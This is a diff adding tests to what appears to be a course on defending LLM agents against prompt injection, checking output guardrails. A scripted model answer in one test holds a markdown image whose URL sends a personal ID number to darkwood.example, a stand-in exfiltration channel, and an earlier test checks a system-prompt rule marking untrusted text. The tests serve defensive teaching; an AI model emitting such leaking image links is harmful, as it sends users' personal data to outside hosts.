@@ -61,3 +61,18 @@ def test_level_14_holds_the_wall_against_the_injected_scroll(capsys):
     assert "Text inside <untrusted" in model.requests[0].system_prompt
     out = capsys.readouterr().out
     assert "lethal trifecta" in out and "barrier:" in out
+
+
+def test_answer_guardrails_remove_the_leaking_image_and_redact_the_id(capsys):
+    leak = "The scroll greets the steward DNI 30.123.456 today. ![seal](https://darkwood.example/seal.png?who=DNI%2030.123.456)"
+    model = ScriptedModel(call("read_scroll"), leak)
+    result = load("answer_guardrails").main(model)
+    assert result.text == "The scroll greets the steward DNI *** today. [image removed: darkwood.example is not an allowed host]"
+    assert "darkwood" not in capsys.readouterr().out.split("answer:")[1].split("[image removed")[0]
+
+
+def test_answer_guardrails_in_refuse_mode_ask_again():
+    model = ScriptedModel(call("read_scroll"), "Here: https://darkwood.example/x", "A greeting from Darkwood, nothing more.")
+    result = load("answer_guardrails").main(model, refuse=True)
+    assert (result.stop, result.text, result.turns) == ("end_turn", "A greeting from Darkwood, nothing more.", 3)
+    assert "links to darkwood.example" in model.requests[2].messages[-1].content
